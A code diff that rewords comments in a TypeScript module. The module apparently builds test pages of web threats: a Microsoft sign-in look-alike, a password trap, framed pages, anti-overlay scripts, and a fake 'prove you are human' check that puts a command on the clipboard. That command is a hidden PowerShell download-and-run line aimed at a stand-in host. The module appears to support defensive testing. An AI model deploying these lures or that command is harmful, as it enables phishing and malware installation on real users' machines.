@@ -1,6 +1,6 @@
 import { firstOf, htmlPage, type SitePart } from './site.ts'
 
-/** What the page below does against whatever is laid over it; `?fight=` names one. */
+/** Ways in which the page below fights an overlay; `?fight=` selects one. */
 const fights: Readonly<Record<string, string>> = {
   hide: '<style>html > div { display: none !important }</style>',
   remove: `<script>
@@ -28,7 +28,7 @@ addEventListener('DOMContentLoaded', () => {
 </script>`,
 }
 
-/** A page that imitates the sign-in of Microsoft on a host that is not Microsoft's. */
+/** Page that imitates Microsoft's sign-in on another host. */
 export const lookAlike: SitePart = ({ method, url }) => {
   if (url.pathname === '/collect' && method === 'POST')
     return htmlPage('Please wait', '<h1>Please wait…</h1>')
@@ -46,7 +46,7 @@ export const lookAlike: SitePart = ({ method, url }) => {
   )
 }
 
-/** A page with nothing of an identity provider about it, that asks for a password all the same. */
+/** Page that asks for a password without any resemblance to an identity provider. */
 export const plainTrap: SitePart = ({ url }) => {
   if (url.pathname !== '/raffle') return undefined
   return htmlPage(
@@ -58,10 +58,10 @@ export const plainTrap: SitePart = ({ url }) => {
   )
 }
 
-/** The command that the page below puts on the clipboard. */
+/** Command that the page below puts on the clipboard. */
 export const pastedCommand = 'powershell -w hidden -c "iex (iwr https://cdn.brass-verify.example/a.ps1)"'
 
-/** How the page below puts a text on the clipboard, by what stands behind `/verify` in its path. */
+/** Ways in which the page below copies text, by the path after `/verify`. */
 const copies: Readonly<Record<string, string>> = {
   '': `select(command)
   document.execCommand('copy')
@@ -82,7 +82,7 @@ const copies: Readonly<Record<string, string>> = {
   navigator.clipboard.write([item])`,
 }
 
-/** A page that lets people "prove that they are human" by a command that it puts on their clipboard. */
+/** Page that asks users to "prove that they are human" with a command that it puts on the clipboard. */
 export const copyPasteAttack: SitePart = ({ url }) => {
   const [, way = null] = /^\/verify(.*)$/.exec(url.pathname) ?? []
   if (way === null || !(way in copies)) return undefined
@@ -108,7 +108,7 @@ document.getElementById('verify').addEventListener('click', () => {
   )
 }
 
-/** A page with other pages in frames; `?frame=` names them. */
+/** Page with frames, given by `?frame=`. */
 export const framed: SitePart = ({ url }) => {
   if (url.pathname !== '/framed') return undefined
   const frames = url.searchParams.getAll('frame').map((address) => {
@@ -118,7 +118,7 @@ export const framed: SitePart = ({ url }) => {
   return htmlPage('Frames', `<h1>Frames</h1>${frames.join('')}`)
 }
 
-/** Paths to which these pages send a password by themselves. */
+/** Paths to which these pages send a password themselves. */
 export const trapPasswordPaths = ['/collect']
 
 export const threats = firstOf(lookAlike, plainTrap, copyPasteAttack, framed)
